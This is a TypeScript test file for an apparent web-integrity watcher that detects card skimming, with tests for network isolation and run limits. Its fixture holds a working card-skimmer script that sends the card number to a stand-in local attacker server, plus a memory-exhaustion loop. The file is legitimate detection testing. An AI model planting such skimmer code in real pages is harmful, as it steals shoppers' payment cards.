import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import * as path from 'node:path'
import { after, afterEach, before, test } from 'node:test'
import type { IntegrityAlarm, WatchedPage, WatcherRun } from '@candor/protocol/integrity-api.ts'
import { TestPlatform, type TestTenant } from '../../../test/test-platform.ts'
import { openRunner } from './open-runner.ts'
import { watchInProcess } from './watch-in-process.ts'

let stolen: string[] = []
const attacker = createServer((request, response) => {
  stolen.push(request.url!)
  response.end()
})
const shop = createServer((request, response) => {
  response.setHeader('content-type', 'text/html; charset=utf-8')
  const at = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
  response.end(`<!doctype html><title>Pay</title><label for="n">Card number</label><input id="n" autocomplete="cc-number">
    <button>Pay</button><script>document.querySelector('#n').addEventListener('change', (event) => {
      new Image().src = '${at}/i?' + btoa(event.target.value) })
    ${/bomb/.test(request.url!) ? 'const held = []; setInterval(() => held.push(new Uint8Array(5e7).fill(1)), 50)' : ''}</script>`)
})

let platform: TestPlatform
let tenant: TestTenant
let origin: string
before(async () => {
  for (const server of [attacker, shop]) {
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
  }
  origin = `http://localhost:${(shop.address() as AddressInfo).port}`
  const { port } = attacker.address() as AddressInfo
  platform = await TestPlatform.start({ config: { privateOrigins: [origin, `http://127.0.0.1:${port}`] } })
  tenant = await platform.tenant()
  await platform.candor.tenants.addSite(tenant.id, origin)
})
afterEach(async () => {
  await platform.check()
  stolen = []
})
after(async () => {
  await platform.stop()
  await TestPlatform.end()
  for (const server of [attacker, shop]) {
    server.closeAllConnections()
    server.close()
  }
})

test('a card that leaves a watched page is an alarm that is proof, seconds after somebody asked', async () => {
  const made = await platform.request(tenant, 'POST', '/v1/integrity/watched-pages', {
    url: `${origin}/checkout`,
    profiles: ['fresh'],
    everyMinutes: 60,
    approvedHosts: [],
  })
  assert.equal(made.status, 201, JSON.stringify(made.body))
  const page = made.body as unknown as WatchedPage
  const begun = await platform.request(tenant, 'POST', `/v1/integrity/watched-pages/${page.id}/run`)
  assert.equal(begun.status, 202, JSON.stringify(begun.body))
  await platform.candor.watcher.settled()
  const listed = await platform.request(tenant, 'GET', `/v1/integrity/runs?page=${page.id}`)
  const run = (listed.body['items'] as WatcherRun[]).find(({ id }) => id === begun.body['id'])!
  assert.equal(run.outcome, 'leaking', JSON.stringify(run))
  assert.ok(stolen.length > 0, 'it truly left')
  const alarms = (await platform.request(tenant, 'GET', '/v1/integrity/alarms')).body[
    'items'
  ] as IntegrityAlarm[]
  const alarm = alarms.find(({ kind }) => kind === 'canary-seen')!
  assert.equal(alarm.weight, 'proof')
  assert.match(alarm.what, /base64.*127\.0\.0\.1/)
  // The card is nowhere in what is kept: it stays in the process that made it.
  assert.doesNotMatch(JSON.stringify([run, alarm]), /400000\d{10}/)
})

test('a page takes the watcher’s browser nowhere in the operator’s network', async () => {
  const { port } = attacker.address() as AddressInfo
  const runner = openRunner({
    browser: process.env['CANDOR_BROWSER'],
    cacheFolder: path.resolve(import.meta.dirname, '../../../../../.cache'),
    allowPrivate: () => [origin],
    limits: { beforeMs: 300, afterMs: 1_500, leftMs: 500 },
  })
  const target = { url: `${origin}/checkout`, approvedHosts: [], steps: [], submit: false }
  const answer = await runner.run({ id: platform.ids.next(), target, profile: 'fresh', baseline: null })
  assert.equal(answer.kind, 'watched', JSON.stringify(answer))
  assert.deepEqual(stolen, [], `127.0.0.1:${port} was not named by the operator`)
  // That it tried is proof all the same.
  assert.equal(answer.kind === 'watched' && answer.watched.run.outcome, 'leaking')
})

test('a run that takes too long, or too much memory, is ended and says so', async () => {
  const order = {
    id: platform.ids.next(),
    target: { url: `${origin}/bomb`, approvedHosts: [], steps: [], submit: false },
    profile: 'fresh' as const,
    baseline: null,
    browser: {
      executable: process.env['CANDOR_BROWSER'],
      cacheFolder: path.resolve(import.meta.dirname, '../../../../../.cache'),
      args: [],
    },
    limits: { beforeMs: 15_000 },
  }
  assert.deepEqual(await watchInProcess(order, { runMsMax: 2_000, memoryBytesMax: Infinity }), {
    kind: 'failed',
    reason: 'It took too long and was ended.',
  })
  assert.deepEqual(await watchInProcess(order, { memoryBytesMax: 900_000_000 }), {
    kind: 'failed',
    reason: 'The page took more memory than a run may have.',
  })
})
